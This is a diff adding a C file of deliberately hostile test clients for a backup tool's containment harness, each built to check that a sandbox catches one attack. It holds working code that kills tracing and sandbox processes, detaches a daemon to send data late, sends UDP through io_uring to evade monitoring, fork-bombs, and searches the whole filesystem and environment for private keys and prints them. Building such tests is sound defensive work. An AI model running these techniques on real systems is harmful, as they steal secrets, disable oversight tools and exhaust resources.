@@ -1,0 +1,515 @@
+/*
+ * Hostile test clients: each is a backup client (client contract v1) that attacks the
+ * *instrument*, not the workload. One source, one binary per attack (make ATTACK=name, see
+ * the Makefile); tests/integration/test_containment.py runs every one of them and checks
+ * that it is caught on the clause it breaks, and that none of them slips to a pass.
+ *
+ *   hostile-<attack> --source PATH --receiver HOST:PORT
+ *
+ * The backup itself (when an attack does one) is a correct one: hash the source, HAVE, PUT
+ * on NO, retry a dropped transfer from byte 0 at most 3 times. Helper modes used by the
+ * attacks themselves: --udp HOST PORT (send one datagram), --sleep-udp MS HOST PORT.
+ */
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/io_uring.h>
+#include <netdb.h>
+#include <netinet/in.h>
+#include <openssl/evp.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/time.h>
+#include <sys/types.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#ifndef ATTACK
+#define ATTACK "honest"
+#endif
+#define IS(name) (strcmp(ATTACK, name) == 0)
+/* where egress attacks send: a loopback address that is not the receiver's */
+#define EGRESS_HOST "127.0.0.2"
+#define EGRESS_PORT 9
+
+extern char **environ;
+
+static void event(const char *name, const char *detail)
+{
+    printf("{\"event\": \"%s\", \"attack\": \"%s\", \"detail\": \"%s\"}\n", name, ATTACK, detail);
+    fflush(stdout);
+}
+
+static int complete_ok(void)
+{
+    printf("{\"event\": \"complete\", \"status\": \"ok\"}\n");
+    fflush(stdout);
+    return 0;
+}
+
+static int complete_failed(const char *why)
+{
+    printf("{\"event\": \"complete\", \"status\": \"failed\", \"reason\": \"%s\"}\n", why);
+    fflush(stdout);
+    return 1;
+}
+
+/* ---- one datagram, by sendto ------------------------------------------------------- */
+
+static int send_udp(const char *host, int port)
+{
+    int s = socket(AF_INET, SOCK_DGRAM, 0);
+    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
+    inet_pton(AF_INET, host, &to.sin_addr);
+    const char msg[] = "telemetry";
+    ssize_t n = sendto(s, msg, sizeof msg - 1, 0, (struct sockaddr *)&to, sizeof to);
+    close(s);
+    return n < 0 ? 3 : 0;
+}
+
+/* ---- one datagram, through io_uring (no connect, no sendto) --------------------------- */
+
+static int send_udp_uring(const char *host, int port)
+{
+    struct io_uring_params p;
+    memset(&p, 0, sizeof p);
+    int ring = (int)syscall(__NR_io_uring_setup, 4, &p);
+    if (ring < 0)
+        return 3;
+    size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
+    unsigned char *sq = mmap(0, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
+                             ring, IORING_OFF_SQ_RING);
+    struct io_uring_sqe *sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe),
+                                     PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
+                                     IORING_OFF_SQES);
+    if (sq == MAP_FAILED || sqes == MAP_FAILED)
+        return 3;
+    int fd = socket(AF_INET, SOCK_DGRAM, 0);
+    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
+    inet_pton(AF_INET, host, &to.sin_addr);
+    char payload[] = "telemetry via io_uring";
+    struct iovec iov = {.iov_base = payload, .iov_len = sizeof payload - 1};
+    struct msghdr msg = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &iov,
+                         .msg_iovlen = 1};
+    struct io_uring_sqe *sqe = &sqes[0];
+    memset(sqe, 0, sizeof *sqe);
+    sqe->opcode = IORING_OP_SENDMSG;
+    sqe->fd = fd;
+    sqe->addr = (unsigned long)&msg;
+    sqe->len = 1;
+    unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
+    unsigned *mask = (unsigned *)(sq + p.sq_off.ring_mask);
+    unsigned *array = (unsigned *)(sq + p.sq_off.array);
+    array[*tail & *mask] = 0;
+    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
+    int n = (int)syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
+    return n < 0 ? 3 : 0;
+}
+
+/* ---- a correct backup ------------------------------------------------------------------ */
+
+static int dial(const char *host, const char *port)
+{
+    struct addrinfo hints = {0}, *res = NULL;
+    hints.ai_family = AF_INET;
+    hints.ai_socktype = SOCK_STREAM;
+    hints.ai_flags = AI_NUMERICHOST | AI_NUMERICSERV;
+    if (getaddrinfo(host, port, &hints, &res) != 0)
+        return -1;
+    int s = socket(res->ai_family, res->ai_socktype, 0);
+    struct timeval tv = {20, 0};
+    if (s >= 0) {
+        setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
+        setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
+        if (connect(s, res->ai_addr, res->ai_addrlen) != 0) {
+            close(s);
+            s = -1;
+        }
+    }
+    freeaddrinfo(res);
+    return s;
+}
+
+static int request(const char *host, const char *port, const char *line,
+                   const unsigned char *body, size_t len, char *ans, size_t anslen)
+{
+    int s = dial(host, port);
+    if (s < 0)
+        return -1;
+    size_t n = strlen(line);
+    if (send(s, line, n, MSG_NOSIGNAL) != (ssize_t)n) {
+        close(s);
+        return -1;
+    }
+    while (len > 0) {
+        ssize_t k = send(s, body, len, MSG_NOSIGNAL);
+        if (k <= 0) {
+            close(s);
+            return -1;
+        }
+        body += k;
+        len -= (size_t)k;
+    }
+    size_t got = 0;
+    while (got + 1 < anslen) {
+        ssize_t k = recv(s, ans + got, 1, 0);
+        if (k <= 0)
+            break;
+        if (ans[got++] == '\n')
+            break;
+    }
+    ans[got] = '\0';
+    close(s);
+    return got > 0 ? 0 : -1;
+}
+
+static unsigned char *load(const char *path, size_t *size)
+{
+    FILE *f = fopen(path, "rb");
+    if (f == NULL)
+        return NULL;
+    struct stat st;
+    if (fstat(fileno(f), &st) != 0) {
+        fclose(f);
+        return NULL;
+    }
+    unsigned char *data = malloc((size_t)st.st_size + 1);
+    size_t n = fread(data, 1, (size_t)st.st_size, f);
+    fclose(f);
+    *size = n;
+    return data;
+}
+
+static int backup(const char *source, const char *receiver)
+{
+    char host[64], port[16];
+    const char *colon = strrchr(receiver, ':');
+    if (colon == NULL || (size_t)(colon - receiver) >= sizeof host)
+        return complete_failed("bad --receiver");
+    memcpy(host, receiver, (size_t)(colon - receiver));
+    host[colon - receiver] = '\0';
+    snprintf(port, sizeof port, "%s", colon + 1);
+    size_t size = 0;
+    unsigned char *data = load(source, &size);
+    if (data == NULL)
+        return complete_failed("cannot read the source");
+    unsigned char md[EVP_MAX_MD_SIZE];
+    unsigned mdlen = 0;
+    EVP_Digest(data, size, md, &mdlen, EVP_sha256(), NULL);
+    char hex[2 * EVP_MAX_MD_SIZE + 1];
+    for (unsigned i = 0; i < mdlen; i++)
+        snprintf(hex + 2 * i, 3, "%02x", md[i]);
+    char line[256], ans[256];
+    snprintf(line, sizeof line, "HAVE %s %zu\n", hex, size);
+    if (request(host, port, line, NULL, 0, ans, sizeof ans) == 0 && strncmp(ans, "YES", 3) == 0)
+        return complete_ok();
+    snprintf(line, sizeof line, "PUT %s %zu\n", hex, size);
+    for (int attempt = 0; attempt < 3; attempt++) {
+        if (request(host, port, line, data, size, ans, sizeof ans) == 0 &&
+            strncmp(ans, "OK", 2) == 0)
+            return complete_ok();
+    }
+    return complete_failed("upload failed");
+}
+
+/* ---- attacks ---------------------------------------------------------------------------- */
+
+/* Copy the source into every place the receiver's store might be. */
+static void write_store(const char *source)
+{
+    size_t size = 0;
+    unsigned char *data = load(source, &size);
+    char dir[4096];
+    snprintf(dir, sizeof dir, "%s", source);
+    char *slash = strrchr(dir, '/');
+    if (slash != NULL)
+        *slash = '\0';
+    const char *targets[] = {"%s/../store/backup.bin", "%s/store/backup.bin", "%s/backup.bin",
+                             "/tmp/store/backup.bin"};
+    for (size_t i = 0; i < sizeof targets / sizeof targets[0]; i++) {
+        char path[4200];
+        snprintf(path, sizeof path, targets[i], dir);
+        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+        if (fd >= 0) {
+            if (data != NULL)
+                (void)!write(fd, data, size);
+            close(fd);
+            event("wrote", path);
+        } else {
+            event("refused", path);
+        }
+    }
+    /* and every lab-pass-* directory we can see */
+    DIR *d = opendir("/tmp");
+    struct dirent *e;
+    while (d != NULL && (e = readdir(d)) != NULL) {
+        if (strncmp(e->d_name, "lab-pass-", 9) == 0) {
+            char path[600];
+            snprintf(path, sizeof path, "/tmp/%s/store/backup.bin", e->d_name);
+            int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+            event(fd >= 0 ? "wrote" : "refused", path);
+            if (fd >= 0)
+                close(fd);
+        }
+    }
+    if (d != NULL)
+        closedir(d);
+    free(data);
+}
+
+static void rewrite_source(const char *source)
+{
+    struct stat st;
+    if (stat(source, &st) == 0 && truncate(source, st.st_size / 2) == 0) {
+        event("truncated", source);
+        return;
+    }
+    event("truncate-refused", strerror(errno));
+    int fd = open(source, O_WRONLY);
+    if (fd >= 0) {
+        (void)!write(fd, "rewritten", 9);
+        close(fd);
+        event("rewrote", source);
+    } else {
+        event("rewrite-refused", strerror(errno));
+    }
+}
+
+static void kill_tracers(void)
+{
+    int killed = kill(-1, SIGKILL) == 0;
+    event("kill-all", killed ? "some signalled" : strerror(errno));
+    DIR *d = opendir("/proc");
+    struct dirent *e;
+    while (d != NULL && (e = readdir(d)) != NULL) {
+        char path[300], comm[64] = "";
+        snprintf(path, sizeof path, "/proc/%s/comm", e->d_name);
+        FILE *f = fopen(path, "r");
+        if (f == NULL)
+            continue;
+        if (fgets(comm, sizeof comm, f) == NULL)
+            comm[0] = '\0';
+        fclose(f);
+        comm[strcspn(comm, "\n")] = '\0';
+        if (!strcmp(comm, "strace") || !strcmp(comm, "bpftrace") || !strcmp(comm, "perf") ||
+            !strcmp(comm, "tcpdump") || !strcmp(comm, "python3") || !strcmp(comm, "bwrap")) {
+            int r = kill(atoi(e->d_name), SIGKILL);
+            event(r == 0 ? "killed" : "kill-refused", comm);
+        }
+    }
+    if (d != NULL)
+        closedir(d);
+}
+
+static void daemonize_then_send(int delay_ms)
+{
+    pid_t pid = fork();
+    if (pid != 0) {
+        if (pid > 0)
+            waitpid(pid, NULL, 0); /* the intermediate child exits at once */
+        return;
+    }
+    setsid();
+    if (fork() != 0)
+        _exit(0);
+    /* the daemon: detached from the client's session and process group */
+    for (int fd = 0; fd < 3; fd++)
+        close(fd);
+    struct timespec ts = {delay_ms / 1000, (long)(delay_ms % 1000) * 1000000L};
+    nanosleep(&ts, NULL);
+    send_udp(EGRESS_HOST, EGRESS_PORT);
+    pause();
+    _exit(0);
+}
+
+static void shell_child(const char *self)
+{
+    char cmd[4300];
+    snprintf(cmd, sizeof cmd, "'%s' --udp %s %d", self, EGRESS_HOST, EGRESS_PORT);
+    int r = system(cmd);
+    event("shell-child", r == 0 ? "sent" : "failed");
+}
+
+static void dns_lookup(void)
+{
+    struct addrinfo hints = {0}, *res = NULL;
+    hints.ai_socktype = SOCK_STREAM;
+    int r = getaddrinfo("telemetry.example.invalid", "443", &hints, &res);
+    event("dns", r == 0 ? "resolved" : gai_strerror(r));
+    if (res != NULL)
+        freeaddrinfo(res);
+}
+
+static void other_loopback(const char *receiver)
+{
+    const char *colon = strrchr(receiver, ':');
+    int port = colon != NULL ? atoi(colon + 1) : 80;
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
+    inet_pton(AF_INET, EGRESS_HOST, &to.sin_addr);
+    int r = connect(s, (struct sockaddr *)&to, sizeof to);
+    close(s);
+    event("other-loopback", r == 0 ? "connected" : strerror(errno));
+}
+
+static void fork_bomb(void)
+{
+    long made = 0;
+    for (;;) {
+        pid_t pid = fork();
+        if (pid == 0) {
+            pause();
+            _exit(0);
+        }
+        if (pid < 0)
+            break;
+        if (++made >= 100000)
+            break;
+    }
+    char n[32];
+    snprintf(n, sizeof n, "%ld", made);
+    event("forked", n);
+}
+
+static void flood(void)
+{
+    for (long i = 0; i < 2000000; i++)
+        printf("{\"event\": \"progress\", \"n\": %ld}\n", i);
+    fflush(stdout);
+}
+
+/* Everything that could be the lab's signing key: the environment, the file the
+ * environment names, and any file that looks like a key under /. */
+static int scan_file(const char *path)
+{
+    int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOFOLLOW);
+    if (fd < 0)
+        return 0;
+    struct stat st;
+    if (fstat(fd, &st) != 0 || !S_ISREG(st.st_mode) || st.st_size > 65536) {
+        close(fd);
+        return 0;
+    }
+    char buf[65537];
+    ssize_t n = read(fd, buf, sizeof buf - 1);
+    close(fd);
+    if (n <= 0)
+        return 0;
+    buf[n] = '\0';
+    if (strstr(buf, "secret key") || strstr(buf, "PRIVATE KEY")) {
+        printf("{\"event\": \"stolen\", \"path\": \"%s\", \"bytes\": %zd}\n", path, n);
+        fwrite(buf, 1, (size_t)n, stdout);
+        return 1;
+    }
+    return 0;
+}
+
+static int walk(const char *dir, int depth, int *budget)
+{
+    if (depth > 8 || *budget <= 0)
+        return 0;
+    if (!strncmp(dir, "/proc", 5) || !strncmp(dir, "/sys", 4) || !strncmp(dir, "/dev", 4))
+        return 0;
+    DIR *d = opendir(dir);
+    if (d == NULL)
+        return 0;
+    int found = 0;
+    struct dirent *e;
+    while ((e = readdir(d)) != NULL && (*budget)-- > 0) {
+        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, ".."))
+            continue;
+        char path[4096];
+        snprintf(path, sizeof path, "%s/%s", strcmp(dir, "/") ? dir : "", e->d_name);
+        struct stat st;
+        if (lstat(path, &st) != 0)
+            continue;
+        if (S_ISDIR(st.st_mode))
+            found += walk(path, depth + 1, budget);
+        else if (S_ISREG(st.st_mode))
+            found += scan_file(path);
+    }
+    closedir(d);
+    return found;
+}
+
+static void steal_key(void)
+{
+    for (char **e = environ; *e != NULL; e++)
+        printf("{\"event\": \"env\", \"value\": \"%s\"}\n", *e);
+    const char *named = getenv("LAB_SIGNING_KEY");
+    if (named != NULL)
+        printf("{\"event\": \"stolen\", \"env\": \"LAB_SIGNING_KEY\", \"value\": \"%s\"}\n",
+               named);
+    int budget = 200000;
+    int found = walk("/", 0, &budget);
+    char n[32];
+    snprintf(n, sizeof n, "%d", found);
+    event("key-files-found", n);
+}
+
+int main(int argc, char **argv)
+{
+    if (argc == 4 && !strcmp(argv[1], "--udp"))
+        return send_udp(argv[2], atoi(argv[3]));
+    const char *source = NULL, *receiver = NULL;
+    for (int i = 1; i + 1 < argc; i += 2) {
+        if (!strcmp(argv[i], "--source"))
+            source = argv[i + 1];
+        else if (!strcmp(argv[i], "--receiver"))
+            receiver = argv[i + 1];
+    }
+    if (source == NULL || receiver == NULL) {
+        fprintf(stderr, "usage: %s --source PATH --receiver HOST:PORT\n", argv[0]);
+        return 2;
+    }
+    printf("{\"event\": \"start\", \"client\": \"hostile-%s\", \"contract_version\": 1}\n",
+           ATTACK);
+    fflush(stdout);
+    if (IS("store-writer")) {
+        write_store(source);
+        return complete_ok();
+    }
+    if (IS("source-rewriter"))
+        rewrite_source(source);
+    if (IS("tracer-killer")) {
+        kill_tracers();
+        send_udp(EGRESS_HOST, EGRESS_PORT);
+    }
+    if (IS("uring-egress"))
+        event("uring", send_udp_uring(EGRESS_HOST, EGRESS_PORT) == 0 ? "sent" : "failed");
+    if (IS("shell-child"))
+        shell_child(argv[0]);
+    if (IS("daemon-fast"))
+        daemonize_then_send(200);
+    if (IS("daemon-slow"))
+        daemonize_then_send(30000);
+    if (IS("dns"))
+        dns_lookup();
+    if (IS("other-loopback"))
+        other_loopback(receiver);
+    if (IS("key-thief"))
+        steal_key();
+    if (IS("hang")) {
+        complete_ok();
+        for (;;)
+            pause();
+    }
+    if (IS("flood")) {
+        flood();
+        return complete_ok();
+    }
+    if (IS("fork-bomb")) {
+        fork_bomb();
+        return complete_ok();
+    }
+    return backup(source, receiver);
+}
